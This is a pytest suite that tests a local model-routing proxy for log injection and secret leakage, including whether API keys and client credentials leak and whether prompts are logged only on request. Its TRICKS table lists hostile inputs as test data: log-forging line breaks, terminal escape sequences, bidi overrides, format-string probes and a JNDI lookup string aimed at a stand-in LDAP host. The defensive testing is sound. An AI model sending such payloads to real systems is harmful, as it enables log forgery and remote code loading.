"""What hostile texts and secrets leave behind: in logs, statistics and answers of the program itself."""

from __future__ import annotations

import importlib.util
import json
import re
from collections.abc import Iterator
from typing import Any

import pytest

from tests.adversarial.kit import CHATS, Reply, ask, assert_serves, becomes_true, call, post
from tests.adversarial.program import Program, running_program
from tests.adversarial.wire import raw
from tests.fakes import FakeOllama, FakeOpenAI, answer, fake_ollama, http_error

KEY = "sk-test-9f8e7d6c5b4a39281706"
OTHER = "hunter2-correct-horse"
RECORD = re.compile(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d,\d{3} (DEBUG|INFO|WARNING|ERROR|CRITICAL) moe[.\w]* ")
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\ud800-\udfff]")
FORGED = "2026-01-01 00:00:00,000 INFO moe.web FORGED"
TRICKS = {
    "a new line": f"x\n{FORGED}",
    "a carriage return": f"x\r{FORGED}",
    "both": f"x\r\n{FORGED}",
    "a vertical tab and a form feed": f"x\v\f{FORGED}",
    "a next line": f"x\x85{FORGED}",
    "a line separator": f"x\u2028{FORGED}\u2029{FORGED}",
    "colours and a title": f"\x1b[2J\x1b]0;owned\x07\x1b[1A{FORGED}",
    "an eight-bit escape": f"\x9b2J{FORGED}",
    "text turned round": f"\u202e{FORGED[::-1]}\u202c\u2066\u2069\u061c",
    "invisible text": "\u200b\ufeff\u2060x\u00ad",
    "a format string": "%s%n%d%(message)s{0.__class__}{record}",
    "a lookup": "${jndi:ldap://192.0.2.1/x}",
    "a NUL": f"x\0{FORGED}",
    "half a pair": "x\ud800",
    "very long": "y" * 100_000,
}


@pytest.fixture(scope="module")
def ollama() -> Iterator[FakeOllama]:
    with fake_ollama(["bad:1b", "good:1b"]) as fake:
        yield fake


@pytest.fixture(scope="module")
def upstream() -> Iterator[FakeOpenAI]:
    with FakeOpenAI(["cloud"], require_key=KEY) as fake:
        yield fake


@pytest.fixture(scope="module")
def program(
    tmp_path_factory: pytest.TempPathFactory, ollama: FakeOllama, upstream: FakeOpenAI
) -> Iterator[Program]:
    runner = {"ollama_url": ollama.url, "retries": 0, "breaker_failures": 1000}
    experts: list[dict[str, Any]] = [
        {"id": 0, "label": "fallback", "model_name": "good:1b"},
        {"id": 1, "label": "bad", "model_name": "bad:1b"},
        {"id": 2, "label": "cloud", "type": "api", "provider": "openai", "model_name": "cloud",
         "api_base": upstream.api_base, "api_key_env": "CLOUD_KEY"},
        {"id": 3, "label": "keyless", "type": "api", "provider": "openai", "model_name": "cloud",
         "api_base": upstream.api_base, "api_key_env": "NO_SUCH_KEY"},
    ]
    config = {"log_prompts": True, "expert_runner": runner}
    folder = tmp_path_factory.mktemp("program")
    env = {"CLOUD_KEY": KEY, "OPENAI_API_KEY": OTHER, "MOE_LOG_LEVEL": "DEBUG"}
    with running_program(folder, config=config, experts=experts, env=env) as running:
        yield running


def _assert_log_is_sound(program: Program) -> None:
    for text in (program.log, program.said):
        assert not UNSAFE.search(text), UNSAFE.search(text)
        for line in text.split("\n"):
            assert not line or RECORD.match(line) or line[0].isspace(), line
            assert not line.startswith(FORGED)
            assert len(line) < 6_000


@pytest.mark.parametrize("trick", TRICKS.values(), ids=TRICKS.keys())
def test_a_prompt_stays_in_its_line_of_the_log(program: Program, trick: str) -> None:
    mark = f"mark{abs(hash(trick))}"
    for path in CHATS:
        assert ask(program, mark + trick, path=path).status == 200
    assert becomes_true(lambda: program.log.count(f"prompt={mark}") == len(CHATS))
    _assert_log_is_sound(program)


@pytest.mark.parametrize("trick", TRICKS.values(), ids=TRICKS.keys())
def test_an_upstreams_error_stays_in_its_line_of_the_log(program: Program, ollama: FakeOllama, trick: str) -> None:
    before = program.log.count("[Auto-Correction]")
    for step in (http_error(500, json.dumps({"error": trick})), http_error(500, trick.encode("utf-8", "replace")),
                 answer("", finish="stop"), raw(trick.encode("utf-8", "replace") + b"\r\n\r\n")):
        ollama.script("bad:1b", [step])
        assert ask(program, model="bad", path="/api/chat").status == 200
    assert becomes_true(lambda: program.log.count("[Auto-Correction]") >= before + 4)
    _assert_log_is_sound(program)


@pytest.mark.parametrize("trick", TRICKS.values(), ids=TRICKS.keys())
def test_names_and_targets_stay_in_their_line_of_the_log(program: Program, trick: str) -> None:
    for path in CHATS:
        assert ask(program, path=path, model=trick).status == 404
    post(program, "/api/show", {"model": trick})
    quoted = "".join(f"%{byte:02x}" for byte in trick.encode("utf-8", "replace")[:1_000])
    for target in (f"/v1/models/{quoted}", f"/{quoted}", f"/v1/route?text={quoted}&model={quoted}"):
        call(program, "GET", target)
    _assert_log_is_sound(program)
    assert_serves(program)


def test_what_a_client_sends_as_its_key_is_nowhere(program: Program) -> None:
    for name, value in (("Authorization", f"Bearer {OTHER}"), ("X-Api-Key", OTHER), ("Cookie", f"a={OTHER}"),
                        ("Api-Key", OTHER)):
        for path in (*CHATS, "/api/show", "/nowhere"):
            reply = post(program, path, {"messages": 5}, headers={name: value})
            assert OTHER not in _all_of(reply)
        assert post(program, "/api/chat", {"stream": False, "messages": [{"role": "user", "content": "x"}]},
                    headers={name: value}).status == 200
    assert OTHER not in program.written()


def _all_of(reply: Reply) -> str:
    return reply.body.decode("utf-8", "replace") + repr(reply.headers)


@pytest.mark.skipif(importlib.util.find_spec("litellm") is None, reason="LiteLLM is not installed")
def test_an_api_key_is_in_no_answer_no_page_and_no_file(program: Program, upstream: FakeOpenAI) -> None:
    told = {"error": {"message": f"Incorrect API key provided: {KEY}", "type": "x", "code": f"bad {KEY}"}}
    statuses = (400, 401, 403, 422, 429, 500)
    for step in (answer("fine"), *(http_error(status, told, headers={"X-Key": KEY}) for status in statuses)):
        upstream.script("cloud", [step])
        for path in CHATS[:2]:
            for stream in (False, True):
                reply = ask(program, path=path, model="cloud", stream=stream)
                assert KEY not in _all_of(reply)
    assert [request for request in upstream.requests if request.headers.get("authorization") == f"Bearer {KEY}"]
    assert ask(program, model="keyless").status == 200  # by the fallback
    for page in ("/", "/health", "/v1/models", "/v1/models/cloud", "/api/tags", "/api/ps", "/v1/route?text=x"):
        assert KEY not in _all_of(call(program, "GET", page))
    assert KEY not in _all_of(post(program, "/api/show", {"model": "cloud"}))
    assert becomes_true(lambda: "expert=cloud" in program.log)
    assert KEY not in program.written()
    assert OTHER not in program.written()
    _assert_log_is_sound(program)


def test_an_answer_names_no_address_and_no_path_of_this_machine(program: Program, ollama: FakeOllama) -> None:
    ollama.script("bad:1b", [http_error(500, {"error": "open /srv/models/secret: no such file"})])
    ollama.script("good:1b", [http_error(500, {"error": "open /srv/models/secret: no such file"})])
    replies = [ask(program, model="bad", path=path) for path in CHATS]
    ollama.script("bad:1b", [])
    ollama.script("good:1b", [])
    for reply in replies:
        assert reply.status == 503
        for inner in ("/srv", "secret", ollama.url, "127.0.0.1", str(program.folder), "Traceback", "urllib3"):
            assert inner not in _all_of(reply)
    assert_serves(program)


def test_prompts_are_not_logged_unless_asked_for(tmp_path_factory: pytest.TempPathFactory, ollama: FakeOllama) -> None:
    experts = [{"id": 0, "label": "fallback", "model_name": "bad:1b"}]
    folder = tmp_path_factory.mktemp("quiet")
    with running_program(folder, config={"expert_runner": {"ollama_url": ollama.url}}, experts=experts,
                         env={"MOE_LOG_LEVEL": "DEBUG"}) as quiet:
        for step in (answer("a private answer"), http_error(500), http_error(400, {"error": "no"})):
            ollama.script("bad:1b", [step])
            for path in CHATS:
                ask(quiet, "a private question", path=path)
                ask(quiet, "a private question", path=path, model="a private name")
        call(quiet, "GET", "/v1/route?text=a%20private%20question")
        post(quiet, "/api/chat", b'{"a private question')
    ollama.script("bad:1b", [])
    assert quiet.log
    assert "private" not in quiet.written()
